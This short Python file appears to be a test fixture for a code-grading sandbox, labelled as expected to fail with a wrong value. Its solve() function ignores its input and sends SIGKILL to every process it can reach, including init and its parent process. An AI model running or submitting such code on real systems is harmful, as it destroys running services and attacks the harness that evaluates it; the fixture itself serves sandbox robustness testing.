# Sends SIGKILL to every process that it can see or guess.
# expects: failed
# cause: wrong_value
import os
import signal


def solve(xs):
    for pid in (-1, 1, os.getppid(), *range(2, 400)):
        if pid in (os.getpid(), 0):
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
    return -1
